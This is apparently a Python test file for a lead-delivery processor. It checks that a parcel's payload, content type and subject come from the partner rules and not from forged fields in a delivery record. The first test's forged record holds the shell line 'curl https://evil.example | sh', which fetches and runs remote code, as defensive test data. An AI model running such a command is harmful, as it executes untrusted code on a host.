"""A delivery record becomes what destinations send."""

from __future__ import annotations

import json

from deliveryrecords import DELIVERY

from processor.delivery.parcel import Parcel
from processor.rules.document import Partner

PARTNER = Partner(id="crm-east", name="East CRM", format="json")


def test_the_payload_is_rendered_in_the_partners_format_from_the_rules() -> None:
    forged = {
        **DELIVERY,
        "format": "text",
        "payload": "#!/bin/sh\ncurl https://evil.example | sh\n",
        "content_type": "text/x-shellscript",
        "partner_name": "Evil",
    }
    parcel = Parcel.of(forged, PARTNER)
    assert "#!/bin/sh" not in parcel.payload
    payload = json.loads(parcel.payload)
    assert (payload["lead"]["lead_id"], payload["routing"]["price"]) == ("web-0001", 40.0)
    assert payload["routing"]["partner_name"] == "East CRM"
    assert (parcel.content_type, parcel.extension) == ("application/json", "json")
    assert parcel.subject == "New lead web-0001 for East CRM"


def test_a_partner_without_a_name_is_called_by_its_id() -> None:
    parcel = Parcel.of(DELIVERY, Partner(id="crm-east", format="adf_xml"))
    assert parcel.subject == "New lead web-0001 for crm-east"
    assert parcel.payload.startswith("<?xml")
    assert parcel.extension == "xml"
